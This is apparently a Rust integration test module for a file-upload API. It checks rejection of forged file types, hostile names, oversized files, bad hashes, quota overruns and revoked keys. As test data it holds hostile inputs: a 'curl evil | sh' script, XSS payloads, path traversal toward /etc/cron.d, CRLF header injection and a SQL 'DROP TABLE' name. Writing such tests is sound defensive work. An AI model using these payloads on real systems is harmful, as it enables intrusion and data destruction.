// SPDX-License-Identifier: Apache-2.0
//! What is not taken, and from whom.

use super::world::{content_hash, hash_of, pdf, send, status, upload, World, MAX_FILE, QUOTA};
use anyhow::{ensure, Context, Result};
use futures::stream;
use registry_testbed::api;
use reqwest::Body;
use serde_json::Value;

/// Files that are said to be something else than they are.
pub async fn of_forged_types(world: &World) -> Result<()> {
    let first = world.signed_in(&world.cast.first).await?;
    let program = [b"MZ\x90\0\x03\0\0\0\x04".as_slice(), &[0; 200]].concat();
    let archive = b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    let html = b"<!DOCTYPE html><script>alert(1)</script>".to_vec();
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec();
    let late_html = b"A letter.\n<html><script>alert(1)</script>".to_vec();
    let both = [b"<script>//".as_slice(), &pdf(500, 1)].concat();
    let latin = b"Soci\xe9t\xe9;1\n".to_vec();
    for (name, media_type, bytes, why) in [
        ("report.pdf", "application/pdf", program, "vnd.microsoft.portable-executable"),
        ("note.txt", "text/plain", html.clone(), "text/html"),
        ("note.txt", "text/plain", late_html, "text/html"),
        ("page.html", "text/html", html, "text/html"),
        ("logo.png", "image/png", svg, "image/svg+xml"),
        ("both.pdf", "application/pdf", both, "of no kind that is taken"),
        ("run.txt", "text/plain", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "x-shellscript"),
        ("table.csv", "text/csv", latin, "UTF-8"),
        ("a.docx", "", archive, "zip"),
        ("a.pdf", "text/html", pdf(500, 2), "Content-Type says text/html"),
        ("a.pdf", "image/png", pdf(500, 2), "Content-Type says image/png"),
        ("a.exe", "application/pdf", pdf(500, 2), "let it end in .pdf"),
        ("a.pdf.html", "", pdf(500, 2), "let it end in .pdf"),
        ("a.bat", "text/plain", b"echo 1\n".to_vec(), "let it end in .txt"),
        ("empty.pdf", "application/pdf", Vec::new(), "empty"),
    ] {
        let media_type = Some(media_type).filter(|it| !it.is_empty());
        let answer = send(&first, &[("name", name)], media_type, bytes).await?;
        let (code, problem) = api::read(answer).await?;
        ensure!(code == 422, "{name} as {media_type:?}: {code} {problem}");
        ensure!(problem.to_string().contains(why), "{name} as {media_type:?}: {problem}");
    }
    // Nothing of it is left.
    ensure!(world.on_their_way()? == 0 && world.stored() == 0);

    for (name, media_type, bytes, found) in [
        ("plots.csv", Some("application/vnd.ms-excel"), b"a;b\n1;2\n".to_vec(), "text/csv"),
        ("plots", Some("text/csv; charset=utf-8"), b"a,b\n3,4\n".to_vec(), "text/csv"),
        (
            "area.geojson",
            None,
            br#"{"type":"Point","coordinates":[1,2]}"#.to_vec(),
            "application/geo+json",
        ),
        ("note.txt", Some("application/octet-stream"), "Fenua ā\n".into(), "text/plain"),
        ("photo.jpeg", Some("image/jpeg"), vec![0xff, 0xd8, 0xff, 0xe0, 0], "image/jpeg"),
    ] {
        let hash = hash_of(&bytes);
        let answer = send(&first, &[("name", name)], media_type, bytes).await?;
        let (code, answer) = api::read(answer).await?;
        ensure!(code == 201 && answer["media_type"] == found, "{name}: {code} {answer}");
        let served = super::world::get(&first, &hash, &[]).await?;
        // To be saved, as what it is, and never run.
        for (header, value) in [
            ("content-type", found),
            ("x-content-type-options", "nosniff"),
            ("content-security-policy", "default-src 'none'; sandbox"),
            ("x-frame-options", "DENY"),
        ] {
            let is = super::world::header(&served, header);
            ensure!(is == value, "{name}: {header} is {is}");
        }
        let saved = super::world::header(&served, "content-disposition").starts_with("attachment;");
        ensure!(saved, "{name} would be shown");
    }
    Ok(())
}

/// Names that would be paths, or something else than they look.
pub async fn of_hostile_names(world: &World) -> Result<()> {
    let first = world.signed_in(&world.cast.first).await?;
    let long = format!("{}.pdf", "n".repeat(1_000));
    let cut = format!("{}.pdf", "n".repeat(116));
    for (seed, (name, kept)) in [
        ("../../../../etc/cron.d/evil.pdf", "evil.pdf"),
        ("..\\..\\windows\\evil.pdf", "evil.pdf"),
        ("/absolute.pdf", "absolute.pdf"),
        ("..", "file.pdf"),
        ("a\r\nSet-Cookie: x=y.pdf", "aSet-Cookie: x=y.pdf"),
        ("fdp\u{202e}.pdf", "fdp.pdf"),
        ("<script>alert(1)<.pdf", "<script>alert(1)<.pdf"),
        ("'; DROP TABLE directory.files; --.pdf", "'; DROP TABLE directory.files; --.pdf"),
        (long.as_str(), cut.as_str()),
        ("  ", "file.pdf"),
    ]
    .into_iter()
    .enumerate()
    {
        let bytes = pdf(300, 100 + seed as u64);
        let hash = hash_of(&bytes);
        let (code, answer) = upload(&first, name, bytes).await?;
        ensure!(code == 201 && answer["name"] == kept, "{name:?}: {code} {answer}");
        ensure!(world.object(&hash).exists(), "{name:?} is not where its hash says");
        let served = super::world::get(&first, &hash, &[]).await?;
        ensure!(served.status() == 200 && served.headers().get("set-cookie").is_none(), "{name:?}");
    }
    let (code, problem) = upload(&first, "nul\0.pdf", pdf(300, 99)).await?;
    ensure!(code == 400, "{code} {problem}");
    // Addresses that are no hashes are nobody's files.
    for hostile in ["..%2f..%2fsecret", "0x", "incoming", "%00", "0x00%2f", "ab/cd"] {
        let (code, problem) = first.get(&format!("/api/v1/files/{hostile}")).await?;
        ensure!(code == 404 || code == 400, "{hostile}: {code} {problem}");
    }
    Ok(())
}

/// Sizes, and hashes.
pub async fn of_sizes(world: &mut World) -> Result<()> {
    let second = world.signed_in(&world.cast.second).await?;
    // Told before, and only found out on the way.
    let large = pdf(MAX_FILE + 1, 1);
    let chunks: Vec<_> =
        large.chunks(1 << 20).map(|it| Ok::<_, std::io::Error>(it.to_vec())).collect();
    let streamed = Body::wrap_stream(stream::iter(chunks));
    for body in [Body::from(large), streamed] {
        let (code, problem) = upload(&second, "large.pdf", body).await?;
        ensure!(code == 413 && problem.to_string().contains("20 MiB"), "{code} {problem}");
    }
    ensure!(world.on_their_way()? == 0);

    let bytes = pdf(400, 2);
    let wrong = hash_of(b"other");
    let answer = send(&second, &[("hash", wrong.as_str())], None, bytes.clone()).await?;
    let (code, problem) = api::read(answer).await?;
    ensure!(code == 422 && problem.to_string().contains(&wrong), "{code} {problem}");
    ensure!(problem.to_string().contains(&hash_of(&bytes)), "{problem}");
    let answer = send(&second, &[("hash", "0x12")], None, bytes.clone()).await?;
    ensure!(answer.status() == 422, "{}", answer.status());
    let answer = send(&second, &[("hash", hash_of(&bytes).as_str())], None, bytes).await?;
    ensure!(answer.status() == 201, "{}", answer.status());
    let answer = send(&second, &[("colour", "red")], None, pdf(400, 3)).await?;
    ensure!(answer.status() == 400, "{}", answer.status());

    // An organisation has so much room, and no more.
    let mut kept = Vec::new();
    for seed in 10..10 + (QUOTA / MAX_FILE) as u64 {
        let bytes = pdf(MAX_FILE, seed);
        ensure!(upload(&second, "room.pdf", bytes.clone()).await?.0 == 201);
        kept.push(hash_of(&bytes));
    }
    let (code, problem) = upload(&second, "more.pdf", pdf(MAX_FILE, 20)).await?;
    ensure!(code == 409 && problem.to_string().contains("64 MiB"), "{code} {problem}");
    // What is there already needs none, and what the chain names gives some back.
    ensure!(upload(&second, "room.pdf", pdf(MAX_FILE, 10)).await?.0 == 200);
    let named = content_hash(kept.first().context("a file")?)?;
    let call = registry_client::Call::UpdateProfile {
        organisation: super::common::SECOND,
        profile: named,
    };
    let admin = world.cast.second.clone();
    world.does(&admin, call).await?;
    let (code, answer) = upload(&second, "more.pdf", pdf(MAX_FILE, 20)).await?;
    ensure!(code == 201, "{code} {answer}");
    Ok(())
}

/// Who may not upload, and with what.
pub async fn of_people_and_keys(world: &mut World) -> Result<()> {
    let first = world.signed_in(&world.cast.first).await?;
    let bytes = || pdf(900, 30);
    let refused = |code: u16, expected: u16, problem: &Value| {
        ensure!(code == expected, "{code} instead of {expected}: {problem}");
        Ok(())
    };
    let (code, problem) = upload(&world.nobody()?, "a.pdf", bytes()).await?;
    refused(code, 401, &problem)?;
    let (reading, _) = first.program(&["read", "mrv", "webhooks"]).await?;
    let (code, problem) = upload(&reading, "a.pdf", bytes()).await?;
    refused(code, 403, &problem)?;
    let stranger = world.signed_in(&registry_testbed::Officer::new("//Stranger")?).await?;
    let (code, problem) = upload(&stranger, "a.pdf", bytes()).await?;
    refused(code, 403, &problem)?;

    let (uploading, number) = first.program(&["files"]).await?;
    let (code, answer) = upload(&uploading, "a.pdf", bytes()).await?;
    refused(code, 201, &answer)?;
    let (_, list) = uploading.get("/api/v1/files?limit=1").await?;
    ensure!(list["items"][0]["api_key"] == number, "{list}");
    // A key that has expired, and one that was revoked.
    sqlx::query(
        "UPDATE directory.api_keys SET expires_at = now() - INTERVAL '1 second' WHERE id = $1",
    )
    .bind(number)
    .execute(&world.database)
    .await?;
    let (code, problem) = upload(&uploading, "a.pdf", bytes()).await?;
    refused(code, 401, &problem)?;
    ensure!(status(&uploading, &hash_of(&bytes())).await? == 401);
    let (uploading, number) = first.program(&["files"]).await?;
    ensure!(first.delete(&format!("/api/v1/api-keys/{number}")).await?.0 == 204);
    let (code, problem) = upload(&uploading, "a.pdf", bytes()).await?;
    refused(code, 401, &problem)?;
    // Another organisation's key takes nothing back that is not its own.
    let (other, _) = world.signed_in(&world.cast.second).await?.program(&["files"]).await?;
    let (code, problem) = other.delete(&format!("/api/v1/files/{}", hash_of(&bytes()))).await?;
    refused(code, 404, &problem)?;
    ensure!(status(&first, &hash_of(&bytes())).await? == 200);
    Ok(())
}
